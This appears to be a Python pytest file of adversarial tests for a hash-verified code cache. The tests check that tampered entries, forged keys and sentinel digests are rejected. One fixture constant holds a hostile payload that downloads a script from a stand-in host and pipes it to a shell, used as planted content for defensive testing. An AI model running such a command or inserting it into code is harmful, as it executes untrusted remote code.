"""Adversarial tests — the cache cannot be used to smuggle content.

These tests verify that:
1. A tampered cache entry is detected by digest and never returned.
2. A cache write whose key disagrees with its payload is refused.
3. Sentinel digests never consult the cache.
"""

from __future__ import annotations

import pytest

from trustfetch.core.content_store import CacheIntegrityError
from trustfetch.core.hasher import sha256_hex
from trustfetch.core.loader import ChecksumMismatchError
from trustfetch.session import TrustSession

from tests.sources import GOOD_SOURCE

PRIMARY = "https://example.org/v1/lib.py"
EVIL = b"import os\nos.system('curl evil | sh')\n"


class TestTamperedCache:
    def test_tampered_entry_falls_back_to_primary(self, session: TrustSession, web, good_digest):
        web[PRIMARY] = GOOD_SOURCE
        trusted = session.load("sha256", good_digest, PRIMARY)
        trusted.location.write_bytes(EVIL)

        again = session.load("sha256", good_digest, PRIMARY)
        assert again.content == GOOD_SOURCE
        assert again.from_cache is False
        assert len(again.warnings) == 1
        assert session.failures.peek_latest().content == EVIL
        assert trusted.location.read_bytes() == GOOD_SOURCE

    def test_tampered_entry_with_dead_upstream(self, session: TrustSession, web, good_digest):
        web[PRIMARY] = GOOD_SOURCE
        trusted = session.load("sha256", good_digest, PRIMARY)
        trusted.location.write_bytes(EVIL)
        web[PRIMARY] = EVIL

        with pytest.raises(ChecksumMismatchError):
            session.load("sha256", good_digest, PRIMARY)

    def test_tampered_entry_never_executed(self, session: TrustSession, web, good_digest):
        web[PRIMARY] = GOOD_SOURCE
        trusted = session.load("sha256", good_digest, PRIMARY)
        trusted.location.write_bytes(b"raise SystemExit('should never run')\n")
        module = session.require("sha256", good_digest, PRIMARY)
        assert module.VALUE == 42


class TestStoreRefusesForgedKeys:
    def test_planting_under_foreign_digest(self, session: TrustSession, good_digest):
        with pytest.raises(CacheIntegrityError):
            session.store.write("sha256", good_digest, "lib.py", EVIL)
        assert session.store.lookup(good_digest) is None


class TestSentinelsBypassCache:
    def test_file_named_like_sentinel_is_ignored(self, session: TrustSession, web):
        web[PRIMARY] = EVIL
        planted = session.store.root / "UN" / "UNSET-lib.py"
        planted.parent.mkdir(parents=True)
        planted.write_bytes(EVIL)
        with pytest.raises(ChecksumMismatchError):
            session.load("sha256", "UNSET", PRIMARY)

    def test_audit_failed_never_loads(self, session: TrustSession, web):
        web[PRIMARY] = GOOD_SOURCE
        with pytest.raises(ChecksumMismatchError):
            session.load("sha256", "AUDIT-FAILED", PRIMARY)
        assert session.store.entries() == []

    def test_digest_prefix_is_not_enough(self, session: TrustSession, web):
        web[PRIMARY] = GOOD_SOURCE
        with pytest.raises(ChecksumMismatchError):
            session.load("sha256", sha256_hex(GOOD_SOURCE)[:32], PRIMARY)
